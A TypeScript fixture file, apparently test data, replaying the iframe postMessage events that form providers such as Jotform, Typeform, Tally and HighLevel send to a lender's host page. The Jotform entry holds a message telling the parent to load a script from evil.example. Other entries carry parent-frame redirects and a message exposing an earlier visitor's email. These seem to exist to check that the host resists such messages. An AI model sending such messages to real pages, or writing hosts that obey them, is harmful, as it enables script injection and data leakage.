import type { ProviderChoice } from "@heloc/lender/schema/provider";
import type { Sequence } from "./frame-page.ts";

export interface Replay extends Sequence {
  choose(origin: string): ProviderChoice;
  /** The height of the frame after loading; undefined where the provider never says one. */
  height?: number;
  /** The number that is counted; undefined where the provider gives none and the host makes one. */
  submissionId?: string;
  /** Steps that the page hears of after the press. */
  steps?: number[];
}

const form = (name: ProviderChoice["name"]) => (origin: string) =>
  ({ name, address: `${origin}/f/1?theme=dark` }) as ProviderChoice;
const text = JSON.stringify;
const ID = "0123456789abcdef0123456789abcdef";
const typeform = (type: string, more: object = {}) => ({ type, embedId: "survey", ...more });

const replays = {
  "self-hosted": {
    choose: (origin) => ({ name: "self-hosted", address: origin }),
    onLoad: [{ type: "heloc-survey:ready" }, { type: "heloc-survey:resize", height: 601 }],
    onPress: [
      { type: "heloc-survey:step", step: 2 },
      { type: "heloc-survey:submitted", submissionId: ID },
    ],
    height: 608,
    submissionId: ID,
    steps: [2],
  },
  highlevel: {
    choose: form("highlevel"),
    // Two of these have been counted as leads by sites that did not look closely.
    onLoad: [
      ["iframeLoaded"],
      ["fetch-query-params", "f1", "loc", "form", null],
      ["fetch-sticky-contacts", "loc"],
      "[iFrameResizerChild]Ready",
      "[iFrameSizer]f1:744.25:305:init",
      ["set-sticky-contacts", "embedded_iframe_f1", "f1", "loc", "f1"],
      ["set-sticky-contacts", "_ud", '{"email":"earlier@visitor.example"}', "loc", "earlier"],
    ],
    onPress: [["set-sticky-contacts", "_ud", '{"email":"ann@example.com"}', "loc", "contact-7"]],
    height: 752,
    submissionId: "contact-7",
  },
  typeform: {
    choose: form("typeform"),
    onLoad: [
      typeform("form-ready"),
      typeform("form-theme"),
      typeform("form-height-changed", { height: 512 }),
    ],
    onPress: [
      typeform("form-screen-changed", { ref: "q2" }),
      typeform("form-submit", { formId: "1", responseId: "r-1" }),
      typeform("redirect-after-submit", { url: "https://elsewhere.example/", target: "_parent" }),
    ],
    height: 512,
    submissionId: "r-1",
    steps: [2],
  },
  jotform: {
    choose: form("jotform"),
    onLoad: ["setHeight:539:1", "scrollIntoView:1", "loadScript:https://evil.example/x.js:1", "reloadPage:1"],
    onPress: [{ action: "submission-completed", formID: "1" }],
    height: 544,
  },
  tally: {
    choose: form("tally"),
    onLoad: [
      text({ event: "Tally.FormLoaded", payload: { formId: "1" } }),
      text({ event: "Tally.FormPageView", payload: { formId: "1", page: 1 } }),
      "[iFrameSizer]survey:640:400:init",
    ],
    onPress: [
      text({ event: "Tally.FormPageView", payload: { formId: "1", page: 2 } }),
      text({ event: "Tally.FormSubmitted", payload: { id: "s1", formId: "1", fields: [] } }),
    ],
    height: 640,
    submissionId: "s1",
    steps: [2],
  },
  "google-forms": {
    choose: form("google-forms"),
    onLoad: [],
    onPress: [],
    pressLeadsTo: "/formResponse",
  },
  formbricks: {
    choose: form("formbricks"),
    onLoad: ["formbricksSurveyCompleted"],
    onPress: ["formbricksSurveyCompleted"],
  },
  cognito: {
    choose: form("cognito"),
    onLoad: [text({ event: "domReady" }), text({ event: "heightChanged", height: 800 })],
    onPress: [
      text({ event: "fireEvent", name: "afterNavigate.cognito", data: {} }),
      text({ event: "fireEvent", name: "afterSubmit.cognito", data: { entry: { Id: "1-23" } } }),
      text({ event: "navigate", url: "https://elsewhere.example/" }),
    ],
    height: 800,
    submissionId: "1-23",
    steps: [2],
  },
  opnform: {
    choose: form("opnform"),
    onLoad: ["[iFrameResizerChild]Ready", "[iFrameSizer]survey:701:400:init"],
    onPress: [
      { type: "form-submitted", form: { slug: "1", redirect_target_url: "https://elsewhere.example/" } },
    ],
    height: 704,
  },
  generic: {
    choose: (origin) => ({
      name: "generic",
      address: `${origin}/f/1`,
      completion: { path: "payload.event", equals: "done", idPath: "payload.id" },
    }),
    onLoad: [{ type: "resize-iframe", payload: { width: 300, height: 640 } }],
    onPress: [{ payload: { event: "done", id: 17 } }],
    height: 640,
    submissionId: "17",
  },
} satisfies Record<string, Replay>;

/** What each provider's frame posts, as its own code or its users' reports show it. */
export const REPLAYS: Record<keyof typeof replays, Replay> = replays;
